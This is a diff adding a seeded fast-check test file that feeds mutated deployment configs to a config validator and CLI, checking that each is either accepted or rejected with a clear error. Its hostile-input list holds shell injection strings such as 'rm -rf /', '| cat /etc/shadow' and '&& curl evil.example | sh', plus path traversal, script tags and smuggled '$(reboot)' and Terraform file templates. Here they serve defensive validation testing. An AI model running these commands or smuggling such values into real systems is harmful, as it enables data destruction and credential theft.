@@ -1,0 +1,280 @@
+/**
+ * Hostile input, generated: valid example deployments mutated with shell metacharacters, command
+ * substitutions, quotes, newlines, Terraform templates, control characters, out-of-range numbers
+ * and odd structures. Every one must be either accepted, and then parse, pass the semantic checks,
+ * tune PostgreSQL for every data node and produce a report without throwing, or rejected with a
+ * ConfigError whose message names each field path, its value and a fix. `ems-ha check` on the same
+ * deployment exits 0 (accepted) or 2 (rejected), never anything else.
+ *
+ * Seeded (SEED) so a failure replays; the figures are printed at the end and quoted in
+ * docs/reliability.md ("Hostile input").
+ */
+import { spawnSync } from "node:child_process";
+import { writeFileSync } from "node:fs";
+import { join, resolve } from "node:path";
+import fc from "fast-check";
+import { afterAll, describe, expect, it } from "vitest";
+import geo from "../../examples/geo-redundant";
+import native from "../../examples/native-single-region";
+import single from "../../examples/single-region";
+import standalone from "../../examples/standalone-db";
+import upgrade from "../../examples/upgrade-7-4-4";
+import vm from "../../examples/vm-appliances";
+import { checkDeployment } from "../../src/analysis/check";
+import { clusterOf, deploymentScenarioRun } from "../../src/analysis/failover";
+import { reportMarkdown, topologySvg } from "../../src/analysis/report";
+import type { CliIo } from "../../src/cli/command";
+import { runCli } from "../../src/cli/main";
+import { dataNodes } from "../../src/config/derive";
+import { ConfigError, showValue } from "../../src/config/errors";
+import { parseDeployment, validateDeployment } from "../../src/config/parse";
+import { semanticIssues } from "../../src/config/semantics";
+import { pgtuneForNode } from "../../src/render/pgtune";
+import { tempDir } from "../helpers/tmp";
+
+const SEED = 20261126;
+const RUNS = 2500;
+const ROOT = resolve(__dirname, "../..");
+const dir = tempDir("ems-ha-prop-");
+
+// eslint-disable-next-line @typescript-eslint/no-explicit-any
+type Json = any;
+type Path = Array<string | number>;
+
+const REAL_SHA = "c35ff1a5d27d6710311263df9f1545b7d65e05e82ca8114622339028edb674ff";
+const BASES: Json[] = [single, geo, native, standalone, vm, upgrade].map((b) => JSON.parse(JSON.stringify(b).replace(/"0{64}"/g, `"${REAL_SHA}"`)));
+
+/** Every path to a value (leaf or container) of a JSON value. */
+function pathsOf(value: Json, prefix: Path = []): Path[] {
+  const out: Path[] = [prefix];
+  if (Array.isArray(value)) value.forEach((v, i) => out.push(...pathsOf(v, [...prefix, i])));
+  else if (value !== null && typeof value === "object") for (const k of Object.keys(value)) out.push(...pathsOf(value[k], [...prefix, k]));
+  return out;
+}
+const BASE_PATHS = BASES.map((b) => pathsOf(b).filter((p) => p.length > 0));
+
+const HOSTILE = [
+  "$(id)",
+  "`id`",
+  "'; rm -rf / #",
+  '"; reboot; "',
+  "a\nb",
+  "x\r\ny",
+  "${var.db_password}",
+  "%{ if true }x%{ endif }",
+  "$HOME",
+  "\u0000",
+  "\u001b[31mred",
+  "\u007f",
+  "\u2028",
+  "| cat /etc/shadow",
+  "&& curl evil.example | sh",
+  "../../etc/passwd",
+  "/opt/../etc",
+  "~/.ssh/id_rsa",
+  " ",
+  "",
+  "<script>alert(1)</script>",
+  "*bold* _it_ [x](http://e)",
+  "constructor",
+  "__proto__",
+  "toString",
+  "999.999.999.999",
+  "1.2.3.4.5",
+  "10.20.0.311",
+  "10.0.0.0/99",
+  "fd00::/999",
+  "::1",
+  "fe80::1%eth0",
+  "ems.example.com",
+  "-leading-dash",
+  "UPPER",
+  "port1-is-way-too-long-for-fortios",
+  "0".repeat(64),
+  "x".repeat(5000),
+  "é漢字",
+  "\\\\server\\share",
+];
+const NUMBERS = [-1, 0, -0, 0.5, 1e-9, 0.001, 0.25, 1, 2, 4, 30, 31, 99, 65535, 65536, 2 ** 31 - 1, 2 ** 31, 2 ** 53, 1e21, Infinity, -Infinity, NaN, 3.7];
+
+const hostileString = fc.oneof(
+  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
+  {
+    weight: 2,
+    arbitrary: fc
+      .tuple(fc.constantFrom(...HOSTILE), fc.constantFrom("pg-1", "/opt/ems", "10.0.0.1", "root", "port1", "./x.bin"), fc.boolean())
+      .map(([h, ok, after]) => (after ? `${ok}${h}` : `${h}${ok}`)),
+  },
+  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
+);
+
+function deep(depth: number): Json {
+  let v: Json = "x";
+  for (let i = 0; i < depth; i++) v = { a: v };
+  return v;
+}
+
+/** A replacement value: hostile strings, odd numbers and odd structures. */
+const replacement: fc.Arbitrary<Json> = fc.oneof(
+  { weight: 6, arbitrary: hostileString },
+  { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
+  { weight: 1, arbitrary: fc.integer() },
+  { weight: 1, arbitrary: fc.double() },
+  {
+    weight: 2,
+    arbitrary: fc.constantFrom<Json>(null, true, false, [], {}, [[]], { constructor: "x" }, { __proto__: "y" }, ["a", 1, null], deep(60), deep(3000)),
+  },
+  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
+  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 3 }) },
+);
+
+type Mutation = { kind: "set"; path: Path; value: Json } | { kind: "delete"; path: Path } | { kind: "add-key"; path: Path; key: string; value: Json } | { kind: "dup"; path: Path };
+
+function getAt(root: Json, path: Path): Json {
+  return path.reduce((cur, k) => (cur === null || typeof cur !== "object" ? undefined : cur[k]), root);
+}
+
+function apply(root: Json, m: Mutation): void {
+  if (m.path.length === 0) return;
+  const parent = getAt(root, m.path.slice(0, -1));
+  const key = m.path[m.path.length - 1]!;
+  if (parent === null || typeof parent !== "object") return;
+  if (m.kind === "set") parent[key] = m.value;
+  else if (m.kind === "delete") {
+    if (Array.isArray(parent) && typeof key === "number") parent.splice(key, 1);
+    else delete parent[key];
+  } else if (m.kind === "add-key") {
+    const target = getAt(root, m.path);
+    if (target !== null && typeof target === "object" && !Array.isArray(target)) Object.defineProperty(target, m.key, { value: m.value, enumerable: true, configurable: true, writable: true });
+  } else if (m.kind === "dup") {
+    const target = getAt(root, m.path);
+    if (Array.isArray(target) && target.length > 0) target.push(JSON.parse(JSON.stringify(target[0])));
+  }
+}
+
+const deployment = fc.integer({ min: 0, max: BASES.length - 1 }).chain((b) =>
+  fc
+    .array(
+      fc.oneof(
+        { weight: 8, arbitrary: fc.record({ kind: fc.constant("set" as const), path: fc.constantFrom(...BASE_PATHS[b]!), value: replacement }) },
+        { weight: 1, arbitrary: fc.record({ kind: fc.constant("delete" as const), path: fc.constantFrom(...BASE_PATHS[b]!) }) },
+        {
+          weight: 1,
+          arbitrary: fc.record({ kind: fc.constant("add-key" as const), path: fc.constantFrom<Path>([], ["database"], ["ems"], ["emsNodes", 0], ["database", "nodes", 0], ["appliances", "hostnames"]), key: fc.constantFrom("constructor", "__proto__", "toString", "extra", "${x}"), value: replacement }),
+        },
+        { weight: 1, arbitrary: fc.record({ kind: fc.constant("dup" as const), path: fc.constantFrom<Path>(["emsNodes"], ["database", "nodes"]) }) },
+      ),
+      { minLength: 1, maxLength: 3 },
+    )
+    .map((mutations) => {
+      const input = JSON.parse(JSON.stringify(BASES[b]));
+      for (const m of mutations) apply(input, m);
+      return { input, mutations };
+    }),
+);
+
+const figures = { generated: 0, accepted: 0, rejected: 0, crashes: 0, cliRuns: 0 };
+const crashes: string[] = [];
+
+async function checkExit(input: Json): Promise<{ code: number; err: string }> {
+  const p = join(dir, `d${figures.cliRuns++}.json`);
+  // JSON.stringify cannot write a 3,000-deep value here; write it by hand when it fails.
+  let text: string;
+  try {
+    text = JSON.stringify(input);
+  } catch {
+    text = JSON.stringify({ ...input, name: "__DEEP__" }).replace('"__DEEP__"', `${'{"a":'.repeat(3000)}"x"${"}".repeat(3000)}`);
+  }
+  writeFileSync(p, text);
+  let err = "";
+  const io: CliIo = { out: () => undefined, err: (t) => void (err += `${t}\n`), cwd: dir, env: {} };
+  return { code: await runCli(["check", "--config", p], io), err };
+}
+
+function overlaps(a: string, b: string): boolean {
+  const inside = (x: string, y: string) => x === y || x.startsWith(`${y}.`) || x.startsWith(`${y}[`);
+  return inside(a, b) || inside(b, a);
+}
+
+function pathText(path: Path): string {
+  let out = "";
+  for (const p of path) out += typeof p === "number" ? `[${p}]` : out ? `.${p}` : p;
+  return out || "(root)";
+}
+
+afterAll(() => {
+  // The figures docs/reliability.md quotes.
+  console.log(`hostile-input property: ${JSON.stringify(figures)}`);
+});
+
+describe("hostile deployments (fast-check, seeded)", () => {
+  it(`every one of ${RUNS} generated deployments is accepted cleanly or rejected with path, value and fix; check exits 0 or 2`, async () => {
+    await fc.assert(
+      fc.asyncProperty(deployment, async ({ input, mutations }) => {
+        figures.generated++;
+        let v: ReturnType<typeof validateDeployment>;
+        try {
+          v = validateDeployment(input);
+        } catch (e) {
+          figures.crashes++;
+          crashes.push(`${(e as Error).stack}`);
+          throw e;
+        }
+        if (v.ok) {
+          figures.accepted++;
+          const d = parseDeployment(input);
+          expect(semanticIssues(d)).toEqual([]);
+          for (const n of dataNodes(d)) pgtuneForNode(n, d.database.maxConnections);
+          reportMarkdown(d, { findings: checkDeployment(input).findings });
+          topologySvg(d);
+          expect(deploymentScenarioRun(d, "repmgr", clusterOf(d)).evaluated).toBeGreaterThan(0);
+        } else {
+          figures.rejected++;
+          expect(() => parseDeployment(input)).toThrow(ConfigError);
+          const message = new ConfigError(v.issues).message;
+          for (const i of v.issues) {
+            expect(i.path.length).toBeGreaterThan(0);
+            expect(i.fix.trim().length).toBeGreaterThan(0);
+            expect(message).toContain(`  - ${i.path}: ${i.message} (got ${showValue(i.value)}). Fix: ${i.fix}`);
+          }
+          // The rejection is about what was changed: a mutated field (or its container), or a cross-field rule.
+          const touched = mutations.map((m) => pathText(m.kind === "add-key" ? [...m.path, m.key] : m.path));
+          expect(v.issues.some((i) => i.rule !== undefined || i.path === "(root)" || touched.some((t) => overlaps(i.path, t)))).toBe(true);
+        }
+        const { code, err } = await checkExit(input);
+        expect(code).toBe(v.ok ? 0 : 2);
+        expect(err).not.toMatch(/\n\s+at .*:\d+:\d+/);
+      }),
+      { seed: SEED, numRuns: RUNS, endOnFailure: true },
+    );
+    expect(figures.crashes).toBe(0);
+    // The generator reaches both outcomes (a generator that only produced rejects would prove little).
+    expect(figures.accepted).toBeGreaterThan(RUNS / 50);
+    expect(figures.rejected).toBeGreaterThan(RUNS / 2);
+  }, 120_000);
+});
+
+describe("hostile deployments through the real binary", () => {
+  function run(file: string): { status: number | null; stdout: string; stderr: string } {
+    // `npx tsx src/cli/main.ts check --config FILE`, as a user runs it from a clone.
+    const r = spawnSync("npx", ["tsx", "src/cli/main.ts", "check", "--config", file], { cwd: ROOT, encoding: "utf8", timeout: 60_000 });
+    return { status: r.status, stdout: r.stdout, stderr: r.stderr };
+  }
+  const cases: Array<[string, string, string, number]> = [
+    ["valid", "ok.json", JSON.stringify(BASES[0]), 0],
+    ["command substitution in a path", "subst.json", JSON.stringify({ ...BASES[0], installer: { ...BASES[0].installer, installDir: "/opt/$(reboot)" } }), 2],
+    ["Terraform template in a name", "tpl.json", JSON.stringify({ ...BASES[0], ems: { ...BASES[0].ems, fqdn: "${file(\"/etc/passwd\")}" } }), 2],
+    ["unknown extension", "deploy.yaml", "topology: single-region\n", 2],
+    ["a module that throws", "throws.ts", "throw new Error('loader boom');\nexport default {};\n", 2],
+    ["10,000-deep value", "deep.json", JSON.stringify(BASES[0]).replace('"name":"ems"', `"name":${'{"a":'.repeat(10_000)}"x"${"}".repeat(10_000)}`), 2],
+  ];
+  it.each(cases)("%s: exit code as expected, no stack trace", (_name, file, text, want) => {
+    const p = join(dir, file);
+    writeFileSync(p, text);
+    const r = run(p);
+    expect(r.status, r.stderr).toBe(want);
+    expect(r.stderr).not.toMatch(/\n\s+at .*:\d+:\d+/);
+    if (want === 2) expect(r.stderr).toMatch(/Fix: /);
+  });
+});
